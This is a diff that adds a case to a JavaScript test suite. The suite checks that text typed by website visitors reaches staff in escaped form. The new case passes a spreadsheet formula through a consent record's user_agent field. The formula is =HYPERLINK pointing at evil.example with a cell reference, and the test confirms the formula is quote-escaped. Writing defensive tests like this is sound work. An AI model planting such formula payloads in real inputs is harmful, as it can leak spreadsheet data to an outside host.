@@ -523,6 +523,11 @@ describe('what a visitor typed reaches staff as text, never as markup, a link, a
       ])
       expect(data.phone).toBe('+1 (305) 555-0142')
     }
+    // The consent record's strings too: its user agent is whatever the sender chose.
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open lead")'
+    const { consent } = JSON.parse(webhookBody(notification({ user_agent: formula, phone: '+1 (305) 555-0142' })))
+    expect(consent.user_agent).toBe(`'${formula}`)
+    expect(consent.phone).toBe('+1 (305) 555-0142')
     const { data } = JSON.parse(webhookBody(notification({ first_name: 'Ana-María', medicaid_denied: false })))
     expect(data).toMatchObject({
       first_name: 'Ana-María',
